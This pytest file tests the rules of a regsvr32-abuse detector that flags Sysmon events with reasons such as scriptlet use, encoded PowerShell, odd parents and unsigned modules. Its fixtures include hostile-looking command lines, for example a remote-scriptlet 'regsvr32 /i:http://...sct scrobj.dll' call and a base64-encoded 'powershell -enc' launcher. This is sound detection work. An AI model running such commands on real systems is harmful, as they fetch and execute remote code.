"""Every reason, where it holds and where it nearly does, and the order of findings."""

from datetime import UTC, datetime, timedelta
from itertools import permutations
from pathlib import Path

import pytest
from msgspec.structs import replace

from carhound.findings.lineage.tree import Deed, Process, Tree
from carhound.findings.prevalence import Prevalence
from carhound.findings.reasoning.rules import RULES, in_order, with_reasons
from carhound.findings.reasoning.view import Around, Novelty
from carhound.findings.reasons import Reason
from carhound.findings.run import Finding, TwinDifference, Twins, WindowUsed

NOON = datetime(2024, 6, 14, 12, tzinfo=UTC)
REGSVR32 = r"C:\Windows\System32\regsvr32.exe"
CMD = r"C:\Windows\System32\cmd.exe"
PAGE = Path(__file__).parents[3] / "docs" / "reference" / "reasons.md"


def finding(kind: str = "process/create", **native: str) -> Finding:
    ids = {"process/create": "1", "module/load": "7", "flow/start": "3", "dns": "22"}
    return Finding(
        "f" * 64,
        "A",
        ("P",),
        NOON,
        "WS1",
        None if kind == "dns" else kind,
        "Microsoft-Windows-Sysmon",
        ids[kind],
        (),
        native,
        {},
    )


def child(image: str = CMD, parent: str = "regsvr32 /s a.dll", **more: str) -> Finding:
    return finding(Image=image, ParentImage=REGSVR32, ParentCommandLine=parent, **more)


def start(command: str, parent: str = CMD, **more: str) -> Finding:
    return finding(**({"Image": REGSVR32, "CommandLine": command, "ParentImage": parent} | more))


def load(module: str, image: str = REGSVR32, **more: str) -> Finding:
    return finding("module/load", Image=image, ImageLoaded=module, **more)


def process(image: str, *children: Process, **more: object) -> Process:
    node = Process(None, None, "WS1", image, None, None, NOON, None, logged=True, children=children)
    return replace(node, **more)  # type: ignore[arg-type]


def said(found: Finding, around: Around | None = None) -> dict[str, str]:
    return {one.code: one.text for one in with_reasons(found, around or Around()).reasons}


SIMPLE = [
    ("renamed-binary", finding(Image=r"C:\Temp\u.exe", OriginalFileName="REGSVR32.EXE"), True),
    ("renamed-binary", finding(Image=r"C:\Temp\u.exe", OriginalFileName="rundll32.exe.mui"), True),
    ("renamed-binary", finding(Image=r"C:\Temp\REGSVR32.exe", OriginalFileName="regsvr32.EXE"), False),
    ("renamed-binary", finding(Image=r"C:\Temp\Code.exe", OriginalFileName="electron.exe"), False),
    ("renamed-binary", load(r"C:\a.dll", OriginalFileName="REGSVR32.EXE"), False),
    ("url-or-unc-source", child(parent="regsvr32 /i:http://x/y.sct scrobj.dll"), True),
    ("url-or-unc-source", start(r"regsvr32 \\s\d\a.dll"), True),
    ("url-or-unc-source", load(r"\\s\d\a.dll"), True),
    ("url-or-unc-source", start(r"regsvr32 /i:http://x C:\a.dll"), False),
    ("url-or-unc-source", finding(Image=CMD, CommandLine="cmd http://x"), False),
    ("scriptlet", start(r"regsvr32 /i:C:\a.sct scrobj.dll"), True),
    ("scriptlet", load(r"C:\Windows\System32\SCROBJ.DLL"), True),
    ("scriptlet", load(r"C:\Windows\System32\scrobj.dll", r"C:\Windows\System32\wscript.exe"), False),
    ("scriptlet", start(r"regsvr32 C:\notscrobj.dll"), False),
    ("program-files-look-alike", load(r"C:\Program Files Evil\a.dll"), True),
    ("program-files-look-alike", start(r'regsvr32 "D:\Program Files (x64)\a.dll"'), True),
    ("program-files-look-alike", load(r"C:\Program Files (x86)\a\a.dll"), False),
    ("program-files-look-alike", load(r"C:\Program Files.dll"), False),
    ("encoded-command", child(CommandLine="powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwA="), True),
    ("encoded-command", child(CommandLine="powershell -e SQBFAFgAIAAoAE4AZQB3AC0ATwA="), True),
    ("encoded-command", child(CommandLine="powershell [Convert]::FromBase64String($a)"), True),
    ("encoded-command", child(CommandLine="powershell -ExecutionPolicy Bypass-something-long"), False),
    ("encoded-command", child(CommandLine="tool -encoding utf8"), False),
    ("odd-parent", start("regsvr32 a.dll", r"C:\Office\WINWORD.EXE"), True),
    ("odd-parent", start("regsvr32 a.dll", r"C:\Windows\System32\services.exe"), True),
    ("odd-parent", start("regsvr32 a.dll", r"C:\Windows\System32\msiexec.exe"), False),
    ("odd-parent", finding(Image=CMD, ParentImage=r"C:\Office\WINWORD.EXE"), False),
    ("network-after-load", finding("flow/start", Image=REGSVR32, DestinationIp="192.0.2.1"), True),
    ("network-after-load", finding("flow/start", Image=CMD, DestinationIp="192.0.2.1"), False),
    ("dns-after-load", finding("dns", Image=REGSVR32, QueryName="x.example"), True),
    ("dns-after-load", finding("dns", Image=CMD, QueryName="x.example"), False),
    ("odd-extension", start("regsvr32 a.txt"), True),
    ("odd-extension", load(r"C:\a.jpg"), True),
    ("odd-extension", start("regsvr32 /s a.OCX library"), False),
    ("odd-extension", load(REGSVR32), False),
    ("signature-invalid", load(r"C:\a.dll", Signed="true", SignatureStatus="Revoked"), True),
    ("signature-invalid", load(r"C:\a.dll", Signed="true", SignatureStatus="Valid"), False),
    ("signature-invalid", load(r"C:\a.dll", Signed="false", SignatureStatus="Unavailable"), False),
    ("unsigned-module", load(r"C:\a.dll", Signed="False"), True),
    ("unsigned-module", load(r"C:\a.dll", Signed="true"), False),
    ("unsigned-module", load(r"C:\a.dll"), False),
    ("shell-or-script-child", child(), True),
    ("shell-or-script-child", child(r"C:\Windows\System32\calc.exe"), False),
    ("shell-or-script-child", finding(Image=CMD, ParentImage=r"C:\Windows\explorer.exe"), False),
    ("user-writable-path", load(r"C:\Users\a\a.dll"), True),
    ("user-writable-path", load(r"C:\WINDOWS\system32\spool\drivers\color\a.dll"), True),
    ("user-writable-path", child(r"D:\ProgramData\a.exe"), True),
    ("user-writable-path", start(r"regsvr32 /s C:\Windows\Tasks\a.dll"), True),
    ("user-writable-path", load(r"C:\Windows\System32\a.dll"), False),
    ("user-writable-path", load(r"C:\Users.dll"), False),
    ("known-noisy-child", child(r"C:\Windows\SysWOW64\WerFault.exe"), True),
    ("known-noisy-child", child(r"C:\WINDOWS\system32\wevtutil.exe"), True),
    ("known-noisy-child", child(r"C:\Temp\WerFault.exe"), False),
]


@pytest.mark.parametrize(
    ("code", "found", "holds"), SIMPLE, ids=[f"{n}-{one[0]}" for n, one in enumerate(SIMPLE)]
)
def test_what_the_event_alone_tells(code: str, found: Finding, holds: bool) -> None:
    assert (code in said(found)) is holds


def test_the_tree_tells_who_the_parent_is_and_what_it_did() -> None:
    deeds = (
        Deed("module", NOON, "7", r"C:\Temp\a.dll", "unsigned", suspicious=True),
        Deed("network", NOON, "3", "192.0.2.1:443"),
        Deed("dns", NOON, "22", "x.example"),
    )
    focus = process(CMD)
    renamed = process(
        r"C:\Temp\u.exe", focus, true_name="regsvr32.exe", command_line="u.exe /s a.txt", deeds=deeds
    )
    tree = Tree(process(r"C:\Office\EXCEL.EXE", renamed), (0, 0))
    bare = finding(Image=CMD, ParentImage=r"C:\Temp\u.exe", ParentCommandLine="u.exe /s a.txt")
    told = {
        "renamed-binary",
        "odd-parent",
        "network-after-load",
        "dns-after-load",
        "odd-extension",
        "unsigned-module",
        "shell-or-script-child",
    }
    assert told.isdisjoint(said(bare))
    reasons = said(replace(bare, tree=tree))
    assert told <= reasons.keys()
    assert r'"C:\Temp\u.exe" is regsvr32.exe under another name' in reasons["renamed-binary"]
    assert "192.0.2.1:443 at 2024-06-14 12:00:00Z" in reasons["network-after-load"]
    assert "EXCEL.EXE" in reasons["odd-parent"]


def test_a_module_that_is_unsigned_where_it_should_be_is_no_reason() -> None:
    deed = Deed("module", NOON, "7", r"C:\Program Files\App\a.dll", "unsigned")
    tree = Tree(process(REGSVR32, process(CMD), deeds=(deed,)), (0,))
    assert "unsigned-module" not in said(replace(child(), tree=tree))


def test_the_twin_of_the_other_bitness_did_not_ask() -> None:
    twin = process(r"C:\Windows\SysWOW64\regsvr32.exe")
    tree = Tree(process(r"C:\a\mshta.exe", process(REGSVR32, twin)), (0, 0))
    found = start(" a.dll", REGSVR32, Image=r"C:\Windows\SysWOW64\regsvr32.exe")
    assert "odd-parent" not in said(found)
    assert "mshta.exe" in said(replace(found, tree=tree))["odd-parent"]


def met(hosts: int, first: datetime = NOON) -> Finding:
    return replace(child(), prevalence=Prevalence(("CommandLine",), ("c",), hosts, 2, first, NOON))


@pytest.mark.parametrize(
    ("hosts", "of", "codes"),
    [
        (1, 4, set()),  # too few to tell
        (1, 5, {"rare-across-hosts"}),
        (2, 5, set()),
        (3, 5, {"common"}),
        (2, 39, set()),
        (2, 40, {"rare-across-hosts"}),
        (20, 40, {"common"}),
        (1, 0, set()),
    ],
)
def test_rare_and_common(hosts: int, of: int, codes: set[str]) -> None:
    found = said(met(hosts), Around(hosts=of))
    assert found.keys() & {"rare-across-hosts", "common"} == codes


def test_first_and_before() -> None:
    assert "first-seen" in said(met(1))
    # Another sensor's record of the same process is not an earlier one.
    assert "first-seen" in said(met(1, NOON - timedelta(seconds=2)))
    before = said(met(1, NOON - timedelta(days=3)))
    assert "first-seen" not in before
    assert "2024-06-11 12:00:00Z" in before["seen-before"]


def test_new_and_how_little_that_may_say() -> None:
    window = WindowUsed("baseline", NOON - timedelta(30), NOON - timedelta(1), None, None)
    around = Around({"P": Novelty(window, {"WS1": (12, 29)})})
    found = said(child(), around)
    assert "2024-05-15 12:00:00Z to 2024-06-13 12:00:00Z" in found["new-in-window"]
    assert '"WS1" was silent on 12 of 29 days' in found["baseline-silent"]
    assert "baseline-silent" not in said(replace(child(), computer="WS2"), around)
    assert "new-in-window" not in said(replace(child(), implementations=("Q",)), around)


def test_who_else_says_so() -> None:
    both = replace(child(), implementations=("P", "P - pseudocode"))
    assert "several-implementations" not in said(both)
    assert (
        "P, Q" in said(replace(both, implementations=("P", "P - pseudocode", "Q")))["several-implementations"]
    )
    difference = TwinDifference("f" * 64, 'Image="x"', "y")
    twins = Twins("P", "P - pseudocode", agree=False, only_spl=(difference,))
    assert 'not by "P - pseudocode"' in said(child(), Around(twins=(twins,)))["only-one-twin"]
    assert "only-one-twin" not in said(replace(child(), id="0" * 64), Around(twins=(twins,)))


def test_evidence_is_cut_to_a_readable_length() -> None:
    found = said(child("C:\\Users\\" + "a" * 30_000))
    assert len(found["user-writable-path"]) < 400


def test_the_order_of_findings() -> None:
    def with_codes(number: int, *codes: str, minutes: int = 0) -> Finding:
        weights = {rule.code: rule.weight for rule in RULES}
        reasons = tuple(Reason(code, weights[code], "") for code in codes)
        time = NOON + timedelta(minutes=minutes)
        return replace(child(), id=f"{number}" * 64, time=time, reasons=reasons)

    ordered = [
        with_codes(1, "renamed-binary"),
        with_codes(2, "scriptlet", "odd-parent"),
        with_codes(3, "scriptlet", "rare-across-hosts", "first-seen"),
        with_codes(4, "scriptlet", minutes=9),
        with_codes(5, "scriptlet", "several-implementations", minutes=5),
        with_codes(6, "scriptlet", "common", minutes=20),
        with_codes(7, "rare-across-hosts", minutes=30),
        with_codes(8, minutes=1),
        replace(with_codes(9), time=None),
    ]
    for some in permutations(range(len(ordered)), 2):
        picked = [ordered[at] for at in some]
        assert [one.id for one in in_order(picked)] == [
            one.id for one in sorted(picked, key=lambda one: one.id)
        ]
    assert [one.id for one in in_order(reversed(ordered))] == [one.id for one in ordered]


def test_the_page_has_the_rules_in_their_order() -> None:
    rows = [line.split("|") for line in PAGE.read_text(encoding="utf-8").splitlines() if "| `" in line]
    assert [(row[2].strip(" `"), row[3].strip()) for row in rows] == [(one.code, one.weight) for one in RULES]


def test_reasons_come_in_the_order_of_the_rules() -> None:
    found = with_reasons(
        start(r"regsvr32 /i:http://x/a.sct scrobj.dll", r"C:\Office\EXCEL.EXE"), Around()
    ).reasons
    assert [one.code for one in found] == ["url-or-unc-source", "scriptlet", "odd-parent"]
